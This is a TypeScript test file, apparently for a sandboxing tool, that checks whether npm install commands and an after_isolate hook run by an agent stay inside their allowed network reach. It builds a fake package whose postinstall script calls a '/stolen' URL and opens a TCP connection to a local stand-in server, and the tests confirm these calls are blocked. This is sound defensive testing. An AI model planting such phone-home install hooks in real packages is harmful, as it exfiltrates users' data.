import { execFileSync } from "node:child_process"
import { cpSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { createServer, type Server } from "node:http"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, beforeAll, expect, test } from "vitest"
import { gatewayHere } from "../src/engine/gateway-here.ts"
import { openReach, type Reach } from "../src/engine/reach.ts"
import { openRepo } from "../src/isolate/repo.ts"
import { detectSandbox } from "../src/isolate/sandbox.ts"
import { openWorkspaces } from "../src/isolate/workspaces.ts"
import { openAgents } from "../src/make/run-agent.ts"
import { openWay } from "../src/make/way.ts"

/*
 * Commands that install: real npm, in the real sandbox, through the real proxy, from a registry that a test plays and the
 * user has configured; and what comes along in a package, and would like to go elsewhere.
 */

const signal = new AbortController().signal
const canIsolate =
  execFileSync("sh", ["-c", "bwrap --ro-bind / / --unshare-all true >/dev/null 2>&1 && echo yes || echo no"], {
    encoding: "utf8",
  }).trim() === "yes"

let folder: string
let root: string
let registry: Server
let elsewhere: Server
let heard = ""
let asked: string[] = []
let outer: Record<string, string>
let gateway: ReturnType<typeof gatewayHere>

beforeAll(async () => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), "fb-npm-")))
  root = join(folder, "checkout")
  elsewhere = createServer((request, response) => {
    heard += request.url
    response.end("thanks")
  })
  const away = await listen(elsewhere)
  const tarball = packed(away)
  registry = createServer((request, response) => {
    asked.push(request.url ?? "")
    if (request.url?.endsWith(".tgz")) return response.end(tarball)
    if (request.url !== "/dep") return response.writeHead(404).end("{}")
    const dist = { tarball: `http://${request.headers.host}/dep/-/dep-1.2.0.tgz` }
    const version = { name: "dep", version: "1.2.0", hasInstallScript: true, dist }
    response.end(JSON.stringify({ name: "dep", "dist-tags": { latest: "1.2.0" }, versions: { "1.2.0": version } }))
  })
  const own = await listen(registry)
  mkdirSync(join(folder, "ada"))
  writeFileSync(join(folder, "ada/.npmrc"), `registry=http://127.0.0.1:${own}/\n`)
  mkdirSync(root)
  writeFileSync(join(root, "package.json"), '{ "name": "shop", "version": "1.0.0" }\n')
  cpSync(join(import.meta.dirname, "reach/dial.mjs"), join(root, "dial.mjs"))
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=Ada", "-c", "user.email=ada@example.org", ...args], { cwd: root })
  git("init", "--quiet", "--initial-branch=main")
  git("add", ".")
  git("commit", "--quiet", "-m", "first")
  outer = { HOME: join(folder, "ada"), PATH: process.env.PATH ?? "" }
  gateway = gatewayHere(join(folder, "fb"), outer)
})

afterAll(async () => {
  await gateway[Symbol.asyncDispose]()
  for (const server of [registry, elsewhere]) server.close()
  rmSync(folder, { recursive: true, force: true })
})

/** A package whose install script phones home, by the proxy and past it. */
function packed(away: number): Buffer {
  const from = join(folder, "package")
  mkdirSync(from)
  cpSync(join(import.meta.dirname, "reach/dial.mjs"), join(from, "dial.mjs"))
  const stolen = `http://127.0.0.1:${away}/stolen`
  const postinstall = `node dial.mjs get ${stolen} > told.txt; node dial.mjs tcp 127.0.0.1 ${away} >> told.txt`
  writeFileSync(join(from, "package.json"), JSON.stringify({ name: "dep", version: "1.2.0", scripts: { postinstall } }))
  return execFileSync("tar", ["czf", "-", "package"], { cwd: folder })
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const address = server.address()
  return typeof address === "object" && address !== null ? address.port : 0
}

async function places() {
  const home = join(folder, "fb")
  const sandbox = await detectSandbox({ home, hidden: [root] })
  return { home, sandbox, repo: await openRepo(root, home) }
}

test.skipIf(!canIsolate).each([
  ["unless the loop says otherwise", undefined, true],
  ["and not where the loop says nothing may be reached", [], false],
])("a command installs from the user's own registry, %s", async (_, network, installs) => {
  asked = []
  heard = ""
  const { home, sandbox, repo } = await places()
  const workspaces = openWorkspaces({ repo, sandbox, progress: () => {} })
  const base = await workspaces.base(signal)
  const workspace = await workspaces.open(`c${installs}`, base.sha, undefined, {}, signal)
  const { hosts, env } = await openReach(repo, network === undefined ? {} : { network }, outer)({ use: "command" })
  const agents = openAgents({ sandbox, outer, home: join(home, "sessions"), root, replayArgv: [], gateway })
  const result = await agents.run(
    {
      role: "maker",
      agent: {
        name: "bump",
        use: "command",
        command: "npm install dep@latest --fetch-retries=0",
        skills: [],
        from: "loop",
      },
      cwd: workspace.path,
      around: { ...workspace, env: { ...workspace.env, ...env } },
      hosts,
      prompt: "",
      finding: { fingerprint: "f", source: "test", title: "t", body: "b", severity: "low", attemptable: true },
      attempt: 1,
      limits: { timeoutMs: 60_000, silenceMs: 60_000, outputBytes: 1_000_000 },
      artifactDir: join(folder, `artifacts-${installs}`),
      change: "c1",
    },
    signal,
  )
  expect(result.ended, result.said).toMatchObject(installs ? { is: "done" } : { is: "failed" })
  expect(asked.some((path) => path.endsWith(".tgz"))).toBe(installs)
  if (installs) {
    expect(readFileSync(join(workspace.path, "package.json"), "utf8")).toMatch(/"dep": ?"\^1\.2\.0"/)
    // The script of the package ran, and got nowhere.
    expect(readFileSync(join(workspace.path, "node_modules/dep/told.txt"), "utf8")).toMatch(
      /status 403[\s\S]*no: ECONNREFUSED/,
    )
  }
  expect(heard).toBe("")
})

test.skipIf(!canIsolate).each([
  ["reaches what it likes where the loop says nothing of the network", undefined, true],
  ["reaches the list, and no further, where the loop has one", "list", false],
])("hooks.after_isolate %s", async (_, network, free) => {
  heard = ""
  asked = []
  const { home, sandbox, repo } = await places()
  const afterIsolate = "npm install dep@latest --fetch-retries=0"
  const reach: () => Promise<Reach> = async () => openReach(repo, {}, outer)({ use: "command" })
  const way = async () => openWay(gateway, "after_isolate", await reach())
  const limited = network === undefined ? {} : { way }
  const workspaces = openWorkspaces({ repo, sandbox, progress: () => {}, ...limited })
  const base = await workspaces.base(signal)
  // With the registry told: the user's .npmrc is not there for it.
  const { env } = await reach()
  const hook = free ? `npm_config_registry=${env.npm_config_registry} ${afterIsolate}` : afterIsolate
  const workspace = await workspaces.open(`hook-${free}`, base.sha, undefined, { afterIsolate: hook }, signal)
  expect(asked.some((path) => path.endsWith(".tgz"))).toBe(true)
  const told = readFileSync(join(workspace.path, "node_modules/dep/told.txt"), "utf8")
  if (free) expect(told).not.toContain("status 403")
  else expect(told).toMatch(/status 403[\s\S]*no: ECONNREFUSED/)
  expect(home).toBe(join(folder, "fb"))
})
